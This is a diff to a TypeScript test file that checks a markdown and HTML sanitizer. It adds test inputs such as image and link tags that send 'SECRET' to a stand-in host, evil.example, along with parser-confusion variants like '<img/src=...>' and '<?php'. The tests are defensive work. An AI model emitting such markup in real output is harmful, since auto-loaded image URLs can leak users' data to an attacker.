@@ -31,6 +31,9 @@ describe("a file has no more in it than the page showed", () => {
     "[![그림](http://evil.example/x.png)](http://evil.example)",
     "[여기](https://evil.example/?q=words)",
     "\\\\<img src=x>",
+    // An unquoted value with a slash is HTML for CommonMark, and none for the parser that we ask.
+    "<img src=https://evil.example/SECRET> <a href=//evil.example/SECRET>여기</a>",
+    "<img/src=https://evil.example/x>",
     "```\n코드\n```\n<img src=x>",
     "- 목록\n  ```\n  코드\n<img src=x>",
     `${"<div>\n".repeat(20)}<img src=x>`,
@@ -42,6 +45,21 @@ describe("a file has no more in it than the page showed", () => {
       assert.doesNotMatch(shown, /<img|<a href="(?!http)|<a [^>]*>여기/u);
       assert.equal(harmless(harmless(text)), harmless(text));
     });
+});
+
+it("no sign is left before what any parser could take for a tag", () => {
+  const signs = (text: string) =>
+    harmless(text)
+      .replaceAll(/\\[\\<]/gu, "")
+      .match(/<(?=[a-z/!?])/giu) ?? [];
+  for (const text of [
+    "<img src=https://evil.example/SECRET>",
+    "a <b/c=d/e f",
+    "<!doctype x",
+    "<?php",
+    "\\\\<img src=x/y>",
+  ])
+    assert.deepEqual(signs(text), [], text);
 });
 
 it("code, links to sources, addresses and marks stay as they are", () => {
